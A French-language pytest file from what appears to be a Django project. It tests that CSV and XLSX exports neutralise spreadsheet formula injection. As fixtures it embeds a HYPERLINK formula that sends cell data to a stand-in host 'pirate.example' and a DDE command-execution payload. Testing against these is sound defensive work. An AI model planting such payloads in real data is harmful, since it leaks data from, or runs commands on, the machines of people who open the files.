"""Injection de formule dans les exports (issue 15, point 1) : un nom saisi « =HYPERLINK(…) » reste du texte.

Un tableur exécute une cellule qui commence par = + - @ (ou une tabulation, un
retour chariot) : chaque export du projet (liste des demandes en CSV et XLSX,
journal des consultations, étude d'impact, modèle d'import du parc) passe ses
valeurs par ``fdls.socle.tableurs``.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cotation.impact import services as impact
from cotation.models import EtudeImpact
from fdls.socle import tableurs
from tests.monde.factories import DemandeFactory

PIEGE = '=HYPERLINK("http://pirate.example/?"&A1;"Cliquez")'


def _piegee(territoire_reze):
    return DemandeFactory(
        nom=PIEGE, prenom="+33 6 12 34 56 78", communes=[territoire_reze.reze], reference="2026010042"
    )


def test_l_export_csv_des_demandes_neutralise_les_formules(client, agent_verifie, territoire_reze):
    _piegee(territoire_reze)
    agent_verifie(territoire_reze.agent)

    reponse = client.get(reverse("demandes:export", args=["csv"]))

    texte = b"".join(reponse.streaming_content).decode("utf-8-sig")
    ligne = list(csv.reader(io.StringIO(texte), delimiter=";"))[1]
    assert ligne[7] == "'" + PIEGE.upper()
    assert ligne[8] == "'+33 6 12 34 56 78"
    assert ligne[0] == "2026010042"


def test_l_export_xlsx_des_demandes_ecrit_les_formules_comme_du_texte(client, agent_verifie, territoire_reze):
    demande = _piegee(territoire_reze)
    agent_verifie(territoire_reze.agent)

    reponse = client.get(reverse("demandes:export", args=["xlsx"]))

    feuille = load_workbook(io.BytesIO(reponse.content)).active
    nom, prenom = feuille.cell(row=2, column=8), feuille.cell(row=2, column=9)
    assert (nom.data_type, nom.value) == ("s", PIEGE.upper())
    assert (prenom.data_type, prenom.value) == ("s", "+33 6 12 34 56 78")
    # Les dates restent des dates, les nombres des nombres.
    assert feuille.cell(row=2, column=5).is_date
    assert feuille.cell(row=2, column=15).value == demande.nb_personnes


def test_le_classeur_de_l_etude_d_impact_n_execute_aucun_libelle():
    grille = {"libelle": "=cmd|' /C calc'!A0", "version": 2}
    etude = EtudeImpact(
        resultats={
            "grille": grille,
            "reference": {"libelle": "@SOMME(1;2)", "version": 1},
            "le": "07/12/2026",
            "demandes": 10,
            "gagnent": 4,
            "perdent": 3,
            "inchanges": 3,
            "gain_moyen": 2.5,
            "perte_moyenne": -1.5,
            "moyenne_avant": 10.0,
            "moyenne_apres": 11.0,
            "spearman": 0.9,
            "top": 100,
            "top_communs": 8,
            "ecarts": [{"libelle": "-5 à -1", "demandes": 3, "part": 30.0}],
            "ventilations": {},
        }
    )

    classeur = load_workbook(io.BytesIO(impact.classeur(etude)))

    synthese = classeur["Synthèse"]
    assert (synthese["B1"].data_type, synthese["B1"].value) == ("s", "=cmd|' /C calc'!A0 (version 2)")
    assert synthese["B2"].data_type == "s"
    assert synthese["B9"].value == -1.5
    ecarts = classeur["Écarts"]
    assert (ecarts["A2"].data_type, ecarts["A2"].value) == ("s", "-5 à -1")


@pytest.mark.parametrize("debut", ["=", "+", "-", "@", "\t", "\r"])
def test_un_texte_qui_commencerait_une_formule_devient_inerte(debut):
    assert tableurs.texte_csv(f"{debut}1+1") == f"'{debut}1+1"
    assert tableurs.texte_csv("Martin") == "Martin"
    assert tableurs.texte_csv(-3) == "-3"
